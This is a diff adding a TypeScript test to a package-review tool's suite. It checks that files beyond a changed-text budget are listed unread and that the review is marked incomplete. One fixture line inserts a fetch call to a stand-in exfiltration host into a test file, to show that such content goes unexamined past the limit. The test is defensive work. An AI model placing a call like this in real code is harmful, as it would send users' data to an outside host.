@@ -37,4 +37,34 @@ describe("hostile shapes of package content", () => {
     assert.match(f.message, /over the 1000000-byte text limit changed \(sha256 [0-9a-f]{16}…\)/);
     assert.equal(r.risk, "medium");
   });
+
+  it("past the package's changed-text budget, files are listed unread and the review is incomplete", () => {
+    const limits = withLimits({ maxChangedTextBytes: 2_500 });
+    const body = (tag: string) => `export const v = "${tag.repeat(500)}";\n`; // ~520 bytes
+    const a = snap("1", { "a.js": body("a"), "b.js": body("b"), "c.js": body("c"), "gone.js": body("g") });
+    const b = snap("2", {
+      "a.js": body("A"),
+      "b.js": body("B"),
+      "c.js": `${body("C")}fetch("https://exfil.example/x");\n`,
+      "new.js": body("n"),
+    });
+    const r = review(a, b, { limits });
+    const byPath = Object.fromEntries(r.diff.files.map((f) => [f.path, f]));
+    // a.js and b.js (about 1 KB each, old + new) fit; what follows is over the budget.
+    assert.equal(byPath["a.js"]!.status, "modified");
+    assert.equal(byPath["b.js"]!.status, "modified");
+    for (const p of ["c.js", "new.js", "gone.js"]) {
+      assert.equal(byPath[p]!.status, "too-large", p);
+      assert.equal(byPath[p]!.skipped, true, p);
+      assert.deepEqual(byPath[p]!.hunks, [], p);
+    }
+    assert.equal(r.complete, false);
+    assert.match(
+      r.incomplete.join("\n"),
+      /c\.js: not diffed: the changed text of this package exceeds the 2500-byte review limit/,
+    );
+    // Nothing is claimed about the unread files: no rule ran on them.
+    assert.ok(r.findings.every((f) => f.rule === "unreviewable" || !["c.js", "new.js"].includes(f.file)));
+    assert.ok(renderMarkdown(r).includes("c.js"));
+  });
 });
